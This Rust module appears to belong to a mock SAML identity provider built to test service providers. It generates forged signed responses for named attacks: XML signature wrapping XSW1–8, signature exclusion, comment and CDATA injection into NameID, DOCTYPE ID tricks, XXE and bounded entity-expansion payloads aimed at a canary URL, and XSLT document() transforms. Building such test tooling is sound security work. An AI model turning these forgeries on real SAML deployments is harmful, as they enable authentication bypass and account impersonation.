//! Layer 3: one named transform applied to the signed XML, and the table that names them
//! (`mock-idp forge --list`, `GET /_control/forge/attacks`).
//!
//! Every attack is written here from its published description (SAML Raider's XSW family,
//! the advisories named in the table); the "genuine" identity is the signed-in user, the
//! "forged" one is `forged_identity`, the identity an evil copy names.

use super::ctx::Ctx;
use super::dom::{self, Document, Element, Node};
use super::dsig::{self, ds, is_signature};
use crate::error::{Error, Result};
use crate::saml::xml::{NS_DS, NS_SAML, NS_SAMLP};
use crate::tenant::random_id;
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD as B64;
use proto::forge::{DigestAlgorithm, ForgeSpec, SignatureAlgorithm};

pub use proto::forge::{Attack, AttackInfo, Needs, infos};

/// Bounded entity expansion: `lol5` expands to 10^5 copies of "lol".
pub const EXPANSION_LEVELS: u32 = 5;

/// Attacks that act on the delivered bytes rather than on the XML tree.
pub fn acts_on_bytes(attack: Attack) -> bool {
    matches!(
        attack,
        Attack::Junk | Attack::Truncated | Attack::WrongEncoding
    )
}

/// Attacks that rearrange or edit the assertion itself: with an encrypted assertion they
/// work on the plaintext and the result is encrypted again.
fn acts_on_assertion(attack: Attack) -> bool {
    !matches!(
        attack,
        Attack::Xsw1
            | Attack::Xsw2
            | Attack::ConcealedResponse
            | Attack::DoctypeFakeAssertion
            | Attack::Xxe
            | Attack::EntityExpansion
            | Attack::Junk
            | Attack::Truncated
            | Attack::WrongEncoding
    )
}

/// The table `mock-idp forge --list` prints: name, CWE, CVE, description.
pub fn listing() -> String {
    let width = Attack::ALL
        .iter()
        .map(|a| a.name().len())
        .max()
        .unwrap_or(0);
    let mut out = format!(
        "{:<width$}  {:<8}  {:<14}  description\n",
        "name", "cwe", "cve"
    );
    for a in Attack::ALL {
        out.push_str(&format!(
            "{:<width$}  {:<8}  {:<14}  {}\n",
            a.name(),
            a.cwe(),
            a.cve().unwrap_or("-"),
            a.description()
        ));
    }
    out
}

fn needs(attack: Attack, what: &str) -> Error {
    Error::BadRequest(format!(
        "attack {attack} needs {what}, and this response has none"
    ))
}

fn new_id() -> String {
    random_id("_evil")
}

fn signature_index(el: &Element) -> Option<usize> {
    el.child_index(is_signature)
}

/// The index (in the root's children) of the first assertion that carries its signature.
fn signed_assertion(root: &Element, attack: Attack) -> Result<usize> {
    root.child_index(|e| e.is(NS_SAML, "Assertion") && signature_index(e).is_some())
        .ok_or_else(|| needs(attack, "a signed assertion"))
}

fn element_at(root: &Element, i: usize) -> Result<Element> {
    match root.children.get(i) {
        Some(Node::Element(e)) => Ok(e.clone()),
        _ => Err(Error::Xml("expected an element".into())),
    }
}

fn without_signature(el: &Element) -> (Element, Option<Element>) {
    let mut copy = el.clone();
    let sig = signature_index(&copy).and_then(|i| match copy.children.remove(i) {
        Node::Element(s) => Some(s),
        _ => None,
    });
    (copy, sig)
}

/// Applies `attack` to the signed document.
pub fn apply(
    attack: Attack,
    doc: &mut Document,
    ctx: &mut Ctx<'_>,
    spec: &ForgeSpec,
) -> Result<()> {
    if attack == Attack::WrongEncoding {
        // The declaration claims UTF-8 and a trailing comment holds a non-ASCII character,
        // so the Latin-1 bytes `on_bytes` makes are never valid UTF-8.
        doc.declaration = true;
        doc.nodes.push(Node::Comment(" café ".into()));
        return Ok(());
    }
    if acts_on_bytes(attack) {
        return Ok(());
    }
    if attack == Attack::AttackerKeyValue {
        return ctx.resign_as_attacker(doc);
    }
    let view = acts_on_assertion(attack) && ctx.encrypted();
    if view {
        ctx.decrypt_view(doc);
    }
    transform(attack, doc, ctx, spec)?;
    if view {
        ctx.encrypt_outermost(doc)?;
    }
    Ok(())
}

fn transform(
    attack: Attack,
    doc: &mut Document,
    ctx: &mut Ctx<'_>,
    spec: &ForgeSpec,
) -> Result<()> {
    let root = doc.root_or_err()?;
    match attack {
        Attack::Xsw1 | Attack::Xsw2 => {
            let (orig, sig) = without_signature(root);
            let mut sig = sig.ok_or_else(|| needs(attack, "a signed Response"))?;
            let mut evil = ctx.evil(root, Some(&new_id()))?;
            if attack == Attack::Xsw1 {
                sig.children.push(Node::Element(orig));
                evil.insert_after_child(NS_SAML, "Issuer", sig);
            } else {
                evil.insert_after_child(NS_SAML, "Issuer", sig);
                let at = signature_index(&evil).unwrap_or(0);
                evil.children.insert(at, Node::Element(orig));
            }
            *root = evil;
        }
        Attack::Xsw3 | Attack::DuplicateAssertion => {
            let i = signed_assertion(root, attack)?;
            let a = element_at(root, i)?;
            let evil = ctx.evil(&a, Some(&new_id()))?;
            let at = if attack == Attack::Xsw3 { i } else { i + 1 };
            root.children.insert(at, Node::Element(evil));
        }
        Attack::Xsw4 => {
            let i = signed_assertion(root, attack)?;
            let a = element_at(root, i)?;
            let mut evil = ctx.evil(&a, Some(&new_id()))?;
            evil.children.push(Node::Element(a));
            root.children[i] = Node::Element(evil);
        }
        Attack::Xsw5 | Attack::Xsw6 => {
            let i = signed_assertion(root, attack)?;
            let a = element_at(root, i)?;
            let (orig, sig) = without_signature(&a);
            let mut sig = sig.ok_or_else(|| needs(attack, "a signed assertion"))?;
            let mut evil = ctx.evil(&a, Some(&new_id()))?;
            if attack == Attack::Xsw6 {
                sig.children.push(Node::Element(orig));
                evil.insert_after_child(NS_SAML, "Issuer", sig);
                root.children[i] = Node::Element(evil);
            } else {
                evil.insert_after_child(NS_SAML, "Issuer", sig);
                root.children[i] = Node::Element(evil);
                root.children.push(Node::Element(orig));
            }
        }
        Attack::Xsw7 => {
            let i = signed_assertion(root, attack)?;
            let a = element_at(root, i)?;
            // Same ID as the original: which of the two an ID lookup finds is the test.
            let evil = ctx.evil(&a, None)?;
            let ext = Element::new(Some("samlp"), "Extensions", Some(NS_SAMLP)).with_child(evil);
            // Schema order: Issuer, Signature, Extensions, Status.
            let at = root.child_index(|e| e.is(NS_SAMLP, "Status")).unwrap_or(i);
            root.children.insert(at, Node::Element(ext));
        }
        Attack::Xsw8 => {
            let i = signed_assertion(root, attack)?;
            let a = element_at(root, i)?;
            let (orig, _) = without_signature(&a);
            let mut evil = a;
            ctx.forge_identity(&mut evil)?;
            let sig = evil
                .child_mut(NS_DS, "Signature")
                .ok_or_else(|| needs(attack, "a signed assertion"))?;
            sig.children
                .push(Node::Element(ds("Object").with_child(orig)));
            root.children[i] = Node::Element(evil);
        }
        Attack::SignatureExclusion => {
            for node in &mut doc.nodes {
                if let Node::Element(e) = node {
                    e.remove_all(&is_signature);
                    if spec.forged_identity.is_some() {
                        ctx.forge_identity(e)?;
                    }
                }
            }
        }
        Attack::CommentInNameid | Attack::CdataInNameid => {
            let genuine = ctx.genuine.clone();
            let forged = ctx.forged()?.to_string();
            let rest = genuine
                .strip_prefix(forged.as_str())
                .filter(|r| !r.is_empty())
                .ok_or_else(|| {
                    Error::BadRequest(format!(
                        "{attack}: forged_identity '{forged}' must be a proper prefix of the signed-in user's NameID '{genuine}' (e.g. alice@acme.test for alice@acme.test.evil.test)"
                    ))
                })?
                .to_string();
            let mut split = 0usize;
            root.walk_mut(&mut |e: &mut Element| {
                let target = (e.is(NS_SAML, "NameID") || e.is(NS_SAML, "AttributeValue"))
                    && e.text() == genuine;
                if target {
                    e.children = if attack == Attack::CommentInNameid {
                        vec![
                            Node::Text(forged.clone()),
                            Node::Comment(String::new()),
                            Node::Text(rest.clone()),
                        ]
                    } else {
                        vec![Node::Text(forged.clone()), Node::CData(rest.clone())]
                    };
                    split += 1;
                }
            });
            if split == 0 {
                return Err(needs(attack, "a NameID"));
            }
        }
        Attack::PiInNameid => super::pi::hide_rest_in_pi(root, ctx)?,
        Attack::AdviceWrapping => {
            let i = signed_assertion(root, attack)?;
            let a = element_at(root, i)?;
            let mut evil = ctx.evil(&a, Some(&new_id()))?;
            let advice = Element::new(Some("saml"), "Advice", Some(NS_SAML)).with_child(a);
            // Schema order: Issuer, Signature, Subject, Conditions, Advice, statements.
            let at = evil
                .child_index(|e| e.is(NS_SAML, "Conditions"))
                .or_else(|| evil.child_index(|e| e.is(NS_SAML, "Subject")))
                .map_or(evil.children.len(), |c| c + 1);
            evil.children.insert(at, Node::Element(advice));
            root.children[i] = Node::Element(evil);
        }
        Attack::ResponseInAdvice => {
            let (orig, sig) = without_signature(root);
            let sig = sig.ok_or_else(|| needs(attack, "a signed Response"))?;
            let mut evil = ctx.evil(root, Some(&new_id()))?;
            // Schema order: Issuer, Signature, Extensions, Status, Assertion.
            evil.insert_after_child(NS_SAML, "Issuer", sig);
            let i = evil
                .child_index(|e| e.is(NS_SAML, "Assertion"))
                .ok_or_else(|| needs(attack, "an assertion"))?;
            let assertion = evil
                .element_at_mut(i)
                .ok_or_else(|| Error::Xml("expected an element".into()))?;
            // A fresh ID: the genuine assertion, inside the genuine Response, keeps its own.
            assertion.set_attr("ID", &new_id());
            // Advice takes any element of another namespace, so a samlp:Response is
            // schema-valid there. Schema order: Issuer, Signature, Subject, Conditions, Advice.
            let advice = Element::new(Some("saml"), "Advice", Some(NS_SAML)).with_child(orig);
            let at = assertion
                .child_index(|e| e.is(NS_SAML, "Conditions"))
                .or_else(|| assertion.child_index(|e| e.is(NS_SAML, "Subject")))
                .map_or(assertion.children.len(), |c| c + 1);
            assertion.children.insert(at, Node::Element(advice));
            *root = evil;
        }
        Attack::CommentInDigestValue => {
            // The element that carries the identity: the signed assertion, else the Response.
            let target: &mut Element = match root
                .child_index(|e| e.is(NS_SAML, "Assertion") && signature_index(e).is_some())
            {
                Some(i) => root
                    .element_at_mut(i)
                    .ok_or_else(|| Error::Xml("expected an element".into()))?,
                None if signature_index(root).is_some() => root,
                None => return Err(needs(attack, "a signature")),
            };
            ctx.forge_identity(target)?;
            let sig_i = signature_index(target).ok_or_else(|| needs(attack, "a signature"))?;
            let alg = match target.children.get(sig_i) {
                Some(Node::Element(sig)) => digest_algorithm_of(sig)?,
                _ => return Err(needs(attack, "a signature")),
            };
            let digest = {
                let sig = match target.children.get(sig_i) {
                    Some(Node::Element(s)) => s,
                    _ => return Err(needs(attack, "a signature")),
                };
                dsig::reference_digest(target, Some(sig), alg)?
            };
            let dv = target
                .find_mut(&|e| e.is(NS_DS, "DigestValue"))
                .ok_or_else(|| needs(attack, "a DigestValue"))?;
            let genuine = dv.text();
            dv.children = vec![Node::Comment(B64.encode(digest)), Node::Text(genuine)];
        }
        Attack::SecondSignedInfo => {
            let i = signed_assertion(root, attack)?;
            let a = element_at(root, i)?;
            let (orig, sig) = without_signature(&a);
            let mut sig = sig.ok_or_else(|| needs(attack, "a signed assertion"))?;
            let id = new_id();
            let mut evil = ctx.evil(&a, Some(&id))?;
            let (signature, digest) = algorithms_of(&sig)?;
            let value = dsig::reference_digest(&evil, None, digest)?;
            let second = dsig::signed_info(signature, digest, &id, &value);
            // After SignatureValue: SignedInfo, SignatureValue, SignedInfo (evil), KeyInfo.
            let at = sig
                .child_index(|e| e.is(NS_DS, "SignatureValue"))
                .map_or(sig.children.len(), |v| v + 1);
            sig.children.insert(at, Node::Element(second));
            evil.insert_after_child(NS_SAML, "Issuer", sig);
            root.children[i] = Node::Element(evil);
            root.children.insert(i + 1, Node::Element(orig));
        }
        Attack::TwoRoots => {
            let i = signed_assertion(root, attack)?;
            let a = element_at(root, i)?;
            let evil_response = ctx.evil(root, Some(&new_id()))?;
            doc.nodes = vec![Node::Element(a), Node::Element(evil_response)];
        }
        Attack::SignedElementInIssuer => {
            let assertion =
                root.child_index(|e| e.is(NS_SAML, "Assertion") && signature_index(e).is_some());
            let genuine = match assertion {
                Some(i) => element_at(root, i)?,
                None if signature_index(root).is_some() => root.clone(),
                None => return Err(needs(attack, "a signature")),
            };
            let id = new_id();
            let mut evil = ctx.evil(&genuine, Some(&id))?;
            let (signature, digest) = match genuine.child(NS_DS, "Signature") {
                Some(s) => algorithms_of(s)?,
                None => return Err(needs(attack, "a signature")),
            };
            let junk_digest: [u8; 32] = rand::random();
            let junk_value: [u8; 256] = rand::random();
            let junk = ds("Signature")
                .declare(Some("ds"), NS_DS)
                .with_child(dsig::signed_info(signature, digest, &id, &junk_digest))
                .with_child(ds("SignatureValue").with_text(&B64.encode(junk_value)));
            evil.insert_after_child(NS_SAML, "Issuer", junk);
            let issuer = evil
                .child_mut(NS_SAML, "Issuer")
                .ok_or_else(|| needs(attack, "an Issuer"))?;
            issuer.children.push(Node::Element(genuine));
            match assertion {
                Some(i) => root.children[i] = Node::Element(evil),
                None => *root = evil,
            }
        }
        Attack::DoctypeFakeAssertion => {
            let a = ctx
                .plain_assertion(root)
                .ok_or_else(|| needs(attack, "an assertion"))?;
            let evil = ctx.evil(&a, Some(&new_id()))?;
            let text = dom::write_element(&evil);
            let root_name = root.qname();
            doc.doctype = Some(doctype(
                &root_name,
                &[format!("<!ENTITY fake-assertion {}>", entity_value(&text))],
            ));
        }
        Attack::NamespaceConfusion => {
            let i = signed_assertion(root, attack)?;
            let a = element_at(root, i)?;
            let mut evil = ctx.evil(&a, Some(&new_id()))?;
            // Unprefixed SAML elements with no namespace declared: in no namespace at all,
            // unless the DTD's default xmlns is applied.
            evil.walk_mut(&mut |e: &mut Element| {
                if e.ns.as_deref() == Some(NS_SAML) {
                    e.prefix = None;
                    e.ns = None;
                }
                e.ns_decls.clear();
            });
            root.children.insert(i, Node::Element(evil));
            let root_name = root.qname();
            doc.doctype = Some(doctype(
                &root_name,
                &[format!(
                    "<!ATTLIST Assertion xmlns CDATA #FIXED \"{NS_SAML}\">"
                )],
            ));
        }
        Attack::NestedAfterSubject => {
            let i = signed_assertion(root, attack)?;
            let a = element_at(root, i)?;
            let (orig, sig) = without_signature(&a);
            let sig = sig.ok_or_else(|| needs(attack, "a signed assertion"))?;
            let mut evil = ctx.evil(&a, Some(&new_id()))?;
            evil.insert_after_child(NS_SAML, "Issuer", sig);
            // Right after the evil Subject, so the evil NameID still comes first.
            evil.insert_after_child(NS_SAML, "Subject", orig);
            root.children[i] = Node::Element(evil);
        }
        Attack::SecondSignedAssertion => {
            let i = signed_assertion(root, attack)?;
            let a = element_at(root, i)?;
            let mut evil = ctx.evil(&a, Some(&new_id()))?;
            ctx.sign_as_attacker(&mut evil)?;
            root.children.insert(i, Node::Element(evil));
        }
        Attack::ConcealedResponse => {
            if signature_index(root).is_none() {
                return Err(needs(attack, "a signed Response"));
            }
            let genuine = root.clone();
            let mut evil = ctx.evil(root, Some(&new_id()))?;
            // A fresh ID for the evil assertion too: the genuine one, inside the genuine
            // Response, keeps its own, and IDs stay unique.
            if let Some(a) = evil.child_mut(NS_SAML, "Assertion") {
                a.set_attr("ID", &new_id());
            }
            evil.children.push(Node::Element(genuine));
            *root = evil;
        }
        Attack::DoctypeIdAttribute => {
            let i = signed_assertion(root, attack)?;
            let a = element_at(root, i)?;
            // Same ID as the genuine one: which element an ID lookup finds is the test.
            let evil = ctx.evil(&a, None)?;
            root.children[i] = Node::Element(evil);
            let ext = Element::new(Some("samlp"), "Extensions", Some(NS_SAMLP)).with_child(a);
            // Schema order: Issuer, Signature, Extensions, Status; first in document order,
            // so a DTD-declared ID registers the genuine element before the evil one.
            let at = root.child_index(|e| e.is(NS_SAMLP, "Status")).unwrap_or(i);
            root.children.insert(at, Node::Element(ext));
            let prefix = a_prefix(root);
            let root_name = root.qname();
            doc.doctype = Some(doctype(
                &root_name,
                &[format!("<!ATTLIST {prefix}Assertion ID ID #IMPLIED>")],
            ));
        }
        Attack::Xxe => {
            let canary = ctx.canary()?.to_string();
            entity_in_issuer(root, "xxe");
            let root_name = root.qname();
            doc.doctype = Some(doctype(
                &root_name,
                &[
                    format!("<!ENTITY % remote SYSTEM \"{canary}\">"),
                    "%remote;".to_string(),
                    format!("<!ENTITY xxe SYSTEM \"{canary}\">"),
                ],
            ));
        }
        Attack::EntityExpansion => {
            let canary = ctx.canary()?.to_string();
            let top = format!("lol{EXPANSION_LEVELS}");
            entity_in_issuer(root, &top);
            let mut decls = vec![
                format!("<!ENTITY canary SYSTEM \"{canary}\">"),
                "<!ENTITY lol0 \"lol\">".to_string(),
            ];
            for level in 1..=EXPANSION_LEVELS {
                let below = format!("&lol{};", level - 1).repeat(10);
                let extra = if level == EXPANSION_LEVELS {
                    "&canary;"
                } else {
                    ""
                };
                decls.push(format!("<!ENTITY lol{level} \"{below}{extra}\">"));
            }
            let root_name = root.qname();
            doc.doctype = Some(doctype(&root_name, &decls));
        }
        Attack::XsltTransform => {
            let canary = ctx.canary()?.to_string();
            let transforms = root
                .find_mut(&|e| e.is(NS_DS, "Transforms"))
                .ok_or_else(|| needs(attack, "a signature"))?;
            const XSL: &str = "http://www.w3.org/1999/XSL/Transform";
            let xsl = |local: &str| Element::new(Some("xsl"), local, Some(XSL));
            let stylesheet = xsl("stylesheet")
                .declare(Some("xsl"), XSL)
                .with_attr("version", "1.0")
                .with_child(xsl("template").with_attr("match", "/").with_child(
                    xsl("copy-of").with_attr("select", &format!("document('{canary}')")),
                ));
            let transform = ds("Transform")
                .with_attr("Algorithm", "http://www.w3.org/TR/1999/REC-xslt-19991116")
                .with_child(stylesheet);
            transforms.children.insert(0, Node::Element(transform));
        }
        Attack::AttackerKeyValue | Attack::Junk | Attack::Truncated | Attack::WrongEncoding => {}
    }
    Ok(())
}

/// The qualified-name prefix (`saml:`, or nothing) of the first assertion below `root`: a DTD
/// declares attributes by the name as written, not by namespace.
fn a_prefix(root: &Element) -> String {
    root.find(&|e| e.is(NS_SAML, "Assertion"))
        .and_then(|e| e.prefix.clone())
        .map_or_else(String::new, |p| format!("{p}:"))
}

/// `<!DOCTYPE root [ decls ]>` content. The DTD is not XML markup the writer can build, so
/// it is assembled here from declarations whose literals are quoted by `entity_value`.
fn doctype(root: &str, decls: &[String]) -> String {
    let mut out = String::from(root);
    out.push_str(" [\n");
    for d in decls {
        out.push_str(d);
        out.push('\n');
    }
    out.push(']');
    out
}

/// A single-quoted entity value literal holding `text`: its `'` and `%` (which would end the
/// literal or start a parameter entity) become character references.
fn entity_value(text: &str) -> String {
    let mut out = String::with_capacity(text.len() + 2);
    out.push('\'');
    for c in text.chars() {
        match c {
            '\'' => out.push_str("&#39;"),
            '%' => out.push_str("&#37;"),
            c => out.push(c),
        }
    }
    out.push('\'');
    out
}

/// Puts `&name;` at the end of the Response's Issuer (or of the root when it has none).
fn entity_in_issuer(root: &mut Element, name: &str) {
    let target = match root.child_index(|e| e.is(NS_SAML, "Issuer")) {
        Some(i) => match root.element_at_mut(i) {
            Some(e) => e,
            None => return,
        },
        None => root,
    };
    target.children.push(Node::EntityRef(name.to_string()));
}

fn digest_algorithm_of(sig: &Element) -> Result<DigestAlgorithm> {
    Ok(algorithms_of(sig)?.1)
}

/// The signature and digest algorithms a Signature element names.
fn algorithms_of(sig: &Element) -> Result<(SignatureAlgorithm, DigestAlgorithm)> {
    use SignatureAlgorithm as S;
    let uri = |local: &str| {
        sig.find(&|e| e.is(NS_DS, local))
            .and_then(|e| e.attr("Algorithm"))
            .map(str::to_string)
            .unwrap_or_default()
    };
    let (s, d) = (uri("SignatureMethod"), uri("DigestMethod"));
    let signature = [S::RsaSha1, S::RsaSha256, S::RsaSha384, S::RsaSha512]
        .into_iter()
        .find(|a| dsig::signature_uri(*a) == s)
        .ok_or_else(|| Error::Xml(format!("unknown SignatureMethod '{s}'")))?;
    let digest = [
        DigestAlgorithm::Sha1,
        DigestAlgorithm::Sha256,
        DigestAlgorithm::Sha384,
        DigestAlgorithm::Sha512,
    ]
    .into_iter()
    .find(|a| dsig::digest_uri(*a) == d)
    .ok_or_else(|| Error::Xml(format!("unknown DigestMethod '{d}'")))?;
    Ok((signature, digest))
}

/// The SAMLResponse form value and the decoded text for the log, for the attacks that act on
/// the bytes; `None` for the others.
pub fn on_bytes(attack: Option<Attack>, xml: &str) -> Option<(String, String)> {
    match attack? {
        Attack::Junk => {
            let junk = "!! mock-idp junk: this SAMLResponse is not base64 at all ~ <samlp:Response/> ~ %%%".to_string();
            Some((junk.clone(), junk))
        }
        Attack::Truncated => {
            let mut cut = xml.len() / 2;
            while !xml.is_char_boundary(cut) {
                cut -= 1;
            }
            let half = &xml[..cut];
            Some((B64.encode(half.as_bytes()), half.to_string()))
        }
        Attack::WrongEncoding => {
            let bytes = latin1(xml);
            let shown = String::from_utf8_lossy(&bytes).into_owned();
            Some((B64.encode(&bytes), shown))
        }
        _ => None,
    }
}

/// `xml` encoded as ISO-8859-1: one byte per character, `?` for those beyond U+00FF.
fn latin1(xml: &str) -> Vec<u8> {
    xml.chars()
        .map(|c| u8::try_from(u32::from(c)).unwrap_or(b'?'))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn listing_has_a_header_and_one_line_per_attack() {
        let l = listing();
        assert_eq!(l.lines().count(), Attack::ALL.len() + 1);
        assert!(
            l.lines()
                .any(|x| x.starts_with("duplicate_assertion") && x.contains("CVE-2022-41912"))
        );
    }

    #[test]
    fn latin1_is_not_utf8_and_truncated_is_half() {
        let bytes = latin1("<r>Zoë €</r>");
        assert_eq!(bytes, b"<r>Zo\xEB ?</r>");
        assert!(std::str::from_utf8(&bytes).is_err());
        let (b64, half) = on_bytes(Some(Attack::Truncated), "<r>0123456789</r>").unwrap();
        assert_eq!(half, "<r>01234");
        assert_eq!(B64.decode(b64).unwrap(), b"<r>01234");
        let (junk, _) = on_bytes(Some(Attack::Junk), "<r/>").unwrap();
        assert!(B64.decode(junk).is_err());
    }

    #[test]
    fn entity_values_cannot_break_out() {
        assert_eq!(entity_value("a'b%c\"d"), "'a&#39;b&#37;c\"d'");
    }
}
